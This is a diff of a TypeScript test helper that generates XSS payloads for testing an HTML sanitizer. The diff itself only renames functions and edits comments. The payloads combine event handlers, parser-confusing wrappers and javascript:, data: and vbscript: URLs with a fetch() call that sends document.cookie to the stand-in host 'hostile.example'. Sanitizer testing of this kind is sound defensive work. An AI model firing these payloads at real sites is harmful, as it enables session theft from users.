@@ -2,7 +2,7 @@ import { existsSync, readFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { root } from '../project.ts'
 
-/** Where every hostile text tries to go; nothing of ours ever does. */
+/** The host that every hostile text tries to reach. The product never uses it. */
 export const hostileHost = 'hostile.example'
 
 const code = `window.hostileRan=1;fetch('https://${hostileHost}/'+document.cookie)`
@@ -24,7 +24,7 @@ const handlers = [
   'on\terror',
 ]
 
-/** Parts in which a parser reads the rest differently from the next parser. */
+/** Elements that parsers interpret differently. */
 const wrappers: ((inner: string) => string)[] = [
   (inner) => `<noscript><p title="</noscript>${inner}">`,
   (inner) => `<title>${inner}</title>`,
@@ -60,7 +60,7 @@ const addresses = [
   `javascript:${code}`, `JaVaScRiPt:${code}`, `java\tscript:${code}`, `&#106;avascript:${code}`,
   `data:text/html,<script>${code}</script>`, `vbscript:${code}`, `//${hostileHost}/x`,
 ] // biome-ignore format: one list, read as one
-const holders = [
+const addressElements = [
   (address: string) => `<a href="${address}">a</a>`,
   (address: string) => `<svg><a xlink:href="${address}"><text>a</text></a></svg>`,
   (address: string) => `<form action="${address}"><button>a</button></form>`,
@@ -71,21 +71,21 @@ const holders = [
   (address: string) => `<object data="${address}"></object>a`,
 ]
 
-/** Texts that try to run something or to call home when a page shows them: our own, and a known collection where it is at hand. */
-export function hostileTexts(): string[] {
+/** Lists texts that try to run code or to send data when a page shows them: our own, and a known collection if available. */
+export function listHostileTexts(): string[] {
   const own = [
     ...elements.flatMap((element) =>
       handlers.map((handler) => `<${element} ${handler}="${code}">a`),
     ),
     ...wrappers.flatMap((wrap) => payloads.map(wrap)),
-    ...holders.flatMap((hold) => addresses.map(hold)),
+    ...addressElements.flatMap((create) => addresses.map(create)),
   ]
-  return [...own, ...collected()]
+  return [...own, ...readCollection()]
 }
 
-function collected(): string[] {
+function readCollection(): string[] {
   const file = join(root, '../shared/corpora/xss-html/dompurify_payloads.json')
   if (!existsSync(file)) return []
-  const entries = JSON.parse(readFileSync(file, 'utf8')) as { payload: string }[]
+  const entries: { payload: string }[] = JSON.parse(readFileSync(file, 'utf8'))
   return entries.map(({ payload }) => payload)
 }
